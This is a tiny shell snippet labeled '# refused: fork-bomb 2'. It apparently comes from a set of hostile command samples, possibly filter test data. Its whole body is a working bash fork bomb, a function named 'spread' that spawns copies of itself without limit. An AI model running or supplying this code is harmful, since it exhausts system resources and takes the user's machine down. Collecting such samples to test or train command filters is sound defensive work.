# refused: fork-bomb 2
spread() {
  spread &
  spread
}
spread
